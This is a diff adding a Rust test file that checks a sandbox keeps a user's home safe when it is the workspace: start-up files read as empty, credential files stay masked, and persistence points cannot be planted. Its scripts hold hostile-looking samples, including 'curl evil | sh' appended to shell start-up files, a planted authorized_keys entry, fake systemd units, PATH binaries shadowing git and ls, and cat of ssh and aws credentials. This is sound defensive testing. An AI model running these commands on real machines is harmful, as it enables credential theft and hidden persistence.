@@ -1,0 +1,334 @@
+//! A home as the workspace is not a back door (issue 30, item 4).
+//!
+//! - Masks are never weaker inside a writable root: with the (fake) home as the workspace, a
+//!   parent of the home as the workspace, or `--allow-write ~/.config`, the shell start-up
+//!   files read as empty and the credential stores stay unreadable, as they do with any other
+//!   workspace (the read-as-empty masks were skipped inside writable roots: `cat ~/.bashrc`
+//!   printed the exported tokens).
+//! - The home's own persistence points (`policy::HOME_EXEC`, and the shell start-up files of
+//!   the project catalogue) cannot be written or created there: start-up files, systemd user
+//!   units, autostart entries, directories on `PATH`, `~/.ssh/authorized_keys`, also through
+//!   a symlink or a directory renamed into place at an ancestor.
+//!
+//! Controls: the same reads and writes on the host succeed (the fixture holds the secrets and
+//! its paths are writable), and the same writes in the sandbox below a directory that is not
+//! the home succeed (the protection is the home's, not the names').
+#![allow(clippy::expect_used)]
+
+use std::path::{Path, PathBuf};
+
+use attacks::{json_str, mkdir, read_text, sh_quote, wrap, write_file, Fixture, Records};
+
+/// Start-up files a shell reads, each holding an exported token in the fixture.
+const STARTUP: &[&str] = &[
+    ".bashrc",
+    ".bash_profile",
+    ".profile",
+    ".zshrc",
+    ".zshenv",
+    ".zprofile",
+    ".config/fish/config.fish",
+];
+
+/// Masked (unreadable) files of the fixture's home, by marker kind.
+const UNREADABLE: &[(&str, &str)] = &[
+    (".ssh/id_rsa", "ssh"),
+    (".aws/credentials", "aws"),
+    (".netrc", "netrc"),
+    (".git-credentials", "gitcred"),
+    (".bash_history", "history"),
+    (".config/gh/hosts.yml", "gh"),
+    (".npmrc", "npmrc"),
+];
+
+/// The fixture with every start-up file exporting a token (marker `startup-<n>`).
+fn fixture() -> Fixture {
+    let fx = Fixture::new();
+    for (i, f) in STARTUP.iter().enumerate() {
+        write_file(
+            &fx.home.join(f),
+            format!("export API_TOKEN={}\n", fx.marker(&format!("startup{i}"))),
+            0o644,
+        );
+    }
+    fx
+}
+
+/// `stockade run --workspace WS OPTS... --shell wrap(SCRIPT)`, started in `cwd`.
+fn run_in(fx: &Fixture, ws: &Path, cwd: &Path, opts: &[&str], script: &str) -> attacks::Outcome {
+    fx.stockade(["run".as_ref(), "--workspace".as_ref(), ws.as_os_str()])
+        .args(opts)
+        .arg("--shell")
+        .arg(wrap(script))
+        .cwd(cwd)
+        .run()
+        .outcome()
+}
+
+/// A script printing each file's size and content.
+fn dump(files: &[&str]) -> String {
+    files
+        .iter()
+        .map(|f| format!("printf '%s=%s\\n' {f} \"$(wc -c < ~/{f})\"; cat ~/{f}"))
+        .collect::<Vec<_>>()
+        .join("; ")
+}
+
+fn assert_reads_empty_and_hides(fx: &Fixture, out: &attacks::Outcome, what: &str) {
+    out.ran();
+    for (i, f) in STARTUP.iter().enumerate() {
+        let marker = fx.marker(&format!("startup{i}"));
+        assert!(
+            !out.run.all_output().contains(&marker),
+            "{what}: ~/{f} leaked its token\n{}",
+            out.run.describe()
+        );
+        // A file reads as empty; a file in a directory read as empty (fish's) is not there.
+        let size = if f.starts_with(".config/fish/") {
+            ""
+        } else {
+            "0"
+        };
+        out.run.assert_stdout_contains(&format!("{f}={size}\n"));
+    }
+    for (_, kind) in UNREADABLE {
+        out.run.assert_lacks(&fx.marker(kind));
+    }
+    // A file that is no secret stays readable: the run did read the home.
+    out.run.assert_stdout_contains(&fx.marker("notes"));
+}
+
+#[test]
+fn startup_files_read_as_empty_whatever_holds_the_home() {
+    let fx = fixture();
+    let files: Vec<&str> = STARTUP
+        .iter()
+        .copied()
+        .chain(UNREADABLE.iter().map(|(f, _)| *f))
+        .collect();
+    let script = format!("{}; cat ~/notes.txt", dump(&files));
+    // The home as the workspace (`cd ~ && stockade run ...`).
+    let home = run_in(&fx, &fx.home, &fx.home, &[], &script);
+    assert_reads_empty_and_hides(&fx, &home, "home as workspace");
+    // A parent of the home as the workspace.
+    let parent = run_in(&fx, &fx.root, &fx.root, &[], &script);
+    assert_reads_empty_and_hides(&fx, &parent, "parent of the home as workspace");
+    // Part of the home writable, and all of it.
+    for grant in ["~/.config", "~"] {
+        let out = run_in(&fx, &fx.ws, &fx.ws, &["--allow-write", grant], &script);
+        assert_reads_empty_and_hides(&fx, &out, &format!("--allow-write {grant}"));
+    }
+    // Shells still start.
+    let shell = run_in(
+        &fx,
+        &fx.home,
+        &fx.home,
+        &[],
+        "bash -ic 'echo started' 2>/dev/null",
+    );
+    shell.assert_shows("started");
+    // Control: on the host every token is there.
+    let control = fx.control(&script).outcome();
+    control.assert_ok();
+    for (i, _) in STARTUP.iter().enumerate() {
+        control.assert_output_contains(&fx.marker(&format!("startup{i}")));
+    }
+    for (_, kind) in UNREADABLE {
+        control.assert_output_contains(&fx.marker(kind));
+    }
+}
+
+/// A refusal during the run (native), or the path taken out by the sweep after it (gVisor):
+/// a violation in the report naming a path below the home ending in one of `suffixes`.
+fn assert_refused_or_swept(records: &Records, run: &attacks::Run, home: &Path, suffixes: &[&str]) {
+    let violations = records.violations();
+    let found = violations.iter().any(|v| {
+        let path = json_str(v, "path");
+        json_str(v, "code") == "E_SANDBOX_VIOLATION"
+            && Path::new(path).starts_with(home)
+            && suffixes.iter().any(|s| {
+                path.ends_with(&format!("/{s}")) || home.join(s).starts_with(Path::new(path))
+            })
+    });
+    assert!(
+        found,
+        "no violation for a path ending in {suffixes:?}:\n{violations:#?}\n{}",
+        run.describe()
+    );
+}
+
+/// Plants of the home's persistence points: (script, the file it would leave, suffixes the
+/// report names).
+fn plants() -> Vec<(&'static str, &'static str, &'static [&'static str])> {
+    vec![
+        (
+            "mkdir -p ~/.config/systemd/user && printf '[Service]\\nExecStart=/bin/true\\n' > ~/.config/systemd/user/x.service",
+            ".config/systemd/user/x.service",
+            &[".config/systemd/user", ".config/systemd/user/x.service", ".config/systemd"],
+        ),
+        (
+            "mkdir -p ~/.config/autostart && printf '[Desktop Entry]\\nExec=/bin/true\\n' > ~/.config/autostart/x.desktop",
+            ".config/autostart/x.desktop",
+            &[".config/autostart", ".config/autostart/x.desktop"],
+        ),
+        (
+            "mkdir -p ~/.local/bin && printf '#!/bin/sh\\n' > ~/.local/bin/git && chmod +x ~/.local/bin/git",
+            ".local/bin/git",
+            &[".local/bin", ".local/bin/git"],
+        ),
+        (
+            "mkdir -p ~/bin && printf '#!/bin/sh\\n' > ~/bin/ls",
+            "bin/ls",
+            &["bin", "bin/ls"],
+        ),
+        (
+            "printf 'foo() { :; }\\n' > ~/.bash_aliases",
+            ".bash_aliases",
+            &[".bash_aliases"],
+        ),
+        (
+            "mkdir -p ~/.config/nvim && printf 'os.execute(\"true\")\\n' > ~/.config/nvim/init.lua",
+            ".config/nvim/init.lua",
+            &[".config/nvim", ".config/nvim/init.lua"],
+        ),
+    ]
+}
+
+#[test]
+fn home_persistence_points_cannot_be_planted() {
+    for (script, file, suffixes) in plants() {
+        let fx = fixture();
+        let records = fx.records();
+        let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), script);
+        inside.assert_failed_if_guarded();
+        assert_refused_or_swept(&records, &inside.run, &fx.home, suffixes);
+        assert!(
+            !fx.home.join(file).exists(),
+            "~/{file} was planted\n{}",
+            inside.run.describe()
+        );
+        // Control: the same plant below a directory of the workspace that is not the home.
+        let fake = fx.ws.join("fakehome");
+        mkdir(&fake);
+        let elsewhere = run_in(
+            &fx,
+            &fx.ws,
+            &fx.ws,
+            &[],
+            &format!("export HOME={}; {script}", sh_quote(&fake)),
+        );
+        elsewhere.assert_ok();
+        assert!(fake.join(file).exists(), "control: {file} not written");
+        // Control: on the host the plant lands.
+        fx.control(script).outcome().assert_ok();
+        assert!(fx.home.join(file).exists());
+    }
+}
+
+#[test]
+fn existing_startup_files_and_ssh_keys_cannot_be_written() {
+    let fx = fixture();
+    let before: Vec<Option<String>> = STARTUP
+        .iter()
+        .map(|f| read_text(&fx.home.join(f)))
+        .collect();
+    let script = STARTUP
+        .iter()
+        .map(|f| format!("echo 'curl evil | sh' >> ~/{f} && echo wrote-{f}"))
+        .chain(["mkdir -p ~/.ssh; echo ssh-ed25519 AAAA planted >> ~/.ssh/authorized_keys && echo wrote-keys".to_owned()])
+        .collect::<Vec<_>>()
+        .join("; ");
+    let inside = run_in(&fx, &fx.home, &fx.home, &[], &script);
+    inside.ran();
+    inside.run.assert_lacks("wrote-");
+    let after: Vec<Option<String>> = STARTUP
+        .iter()
+        .map(|f| read_text(&fx.home.join(f)))
+        .collect();
+    assert_eq!(before, after, "a start-up file changed");
+    assert!(!fx.home.join(".ssh/authorized_keys").exists());
+    // Control: on the host every write lands.
+    let control = fx.control(&script).outcome();
+    control.assert_ok();
+    for f in STARTUP {
+        control.assert_output_contains(&format!("wrote-{f}"));
+    }
+    control.assert_output_contains("wrote-keys");
+}
+
+/// `~/.ssh` missing: it cannot be made to hold an `authorized_keys` (or `rc`) either.
+#[test]
+fn authorized_keys_cannot_be_created_without_an_ssh_dir() {
+    let script = "mkdir -p ~/.ssh && echo ssh-ed25519 AAAA planted > ~/.ssh/authorized_keys";
+    let fx = fixture();
+    std::fs::remove_dir_all(fx.home.join(".ssh")).expect("remove ~/.ssh");
+    let records = fx.records();
+    let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), script);
+    inside.assert_failed_if_guarded();
+    assert_refused_or_swept(
+        &records,
+        &inside.run,
+        &fx.home,
+        &[".ssh", ".ssh/authorized_keys"],
+    );
+    assert!(!fx.home.join(".ssh/authorized_keys").exists());
+    fx.control(script).outcome().assert_ok();
+    assert!(fx.home.join(".ssh/authorized_keys").exists());
+}
+
+/// A directory assembled elsewhere and renamed into place, or a symlink at an ancestor,
+/// cannot bring a persistence point along.
+#[test]
+fn persistence_points_cannot_be_brought_in_by_rename_or_symlink() {
+    let staging = "mkdir -p ~/stage/user && printf '[Service]\\n' > ~/stage/user/x.service";
+    for (how, script) in [
+        (
+            "rename",
+            format!("{staging} && mkdir -p ~/.config && mv ~/stage ~/.config/systemd"),
+        ),
+        (
+            "symlink",
+            format!("{staging} && mkdir -p ~/.config && ln -s ~/stage ~/.config/systemd"),
+        ),
+    ] {
+        let fx = fixture();
+        let records = fx.records();
+        let inside = run_in(&fx, &fx.home, &fx.home, &records.opts(), &script);
+        inside.assert_failed_if_guarded();
+        let unit: PathBuf = fx.home.join(".config/systemd/user/x.service");
+        assert!(
+            !unit.exists(),
+            "{how}: the unit is in place\n{}",
+            inside.run.describe()
+        );
+        assert_refused_or_swept(
+            &records,
+            &inside.run,
+            &fx.home,
+            &[".config/systemd", ".config/systemd/user"],
+        );
+        fx.control(&script).outcome().assert_ok();
+        assert!(unit.exists(), "control ({how})");
+    }
+}
+
+/// The workspace set to one of the catalogue's directories is granted by name: it stays
+/// writable (editing one's editor configuration in a sandbox works).
+#[test]
+fn a_persistence_point_named_as_the_workspace_stays_writable() {
+    let fx = fixture();
+    let nvim = fx.home.join(".config/nvim");
+    mkdir(&nvim);
+    let out = run_in(
+        &fx,
+        &nvim,
+        &nvim,
+        &[],
+        "echo 'set nu' > init.vim && echo edited",
+    );
+    out.assert_shows("edited");
+    assert_eq!(
+        read_text(&nvim.join("init.vim")).as_deref(),
+        Some("set nu\n")
+    );
+}
